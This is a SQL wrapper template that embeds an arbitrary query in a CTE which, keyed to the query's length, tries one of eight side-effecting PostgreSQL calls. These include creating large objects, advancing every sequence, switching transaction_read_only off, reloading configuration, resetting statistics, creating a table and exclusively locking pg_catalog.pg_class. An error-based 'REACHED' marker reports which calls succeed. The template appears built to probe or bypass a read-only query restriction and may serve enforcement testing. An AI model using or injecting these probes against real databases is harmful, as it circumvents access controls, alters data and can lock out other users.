-- TRIED: a refusal would end the statement, so each query, by the length of its text, tries one of these.
with planted as materialized (
  select case length(current_query()) % 8
    when 0 then ('REA' || 'CHED ' || left((lo_from_bytea(0, 'x')::text)::text, 40))::int::text
    when 1 then ('REA' || 'CHED ' || left((lo_create(51337)::text)::text, 40))::int::text
    when 2 then ('REA' || 'CHED ' || left(((select string_agg(nextval(oid::regclass)::text, ' ') from pg_class where relkind = 'S'))::text, 40))::int::text
    when 3 then ('REA' || 'CHED ' || left((select setting from (select set_config('transaction_read_only', 'off', true) as setting) as given where setting = 'off')::text, 40))::int::text
    when 4 then ('REA' || 'CHED ' || left((pg_reload_conf()::text)::text, 40))::int::text
    when 5 then ('REA' || 'CHED ' || left((pg_stat_reset()::text)::text, 40))::int::text
    when 6 then ('REA' || 'CHED ' || left((query_to_xml('create table public.planted ()', true, true, '')::text)::text, 40))::int::text
    when 7 then ('REA' || 'CHED ' || left((query_to_xml('lock table pg_catalog.pg_class in access exclusive mode', true, true, '')::text)::text, 40))::int::text
  end as got
)
select q.* from (
{query}
) q
where (select coalesce(length(got::text), 0) >= 0 from planted)
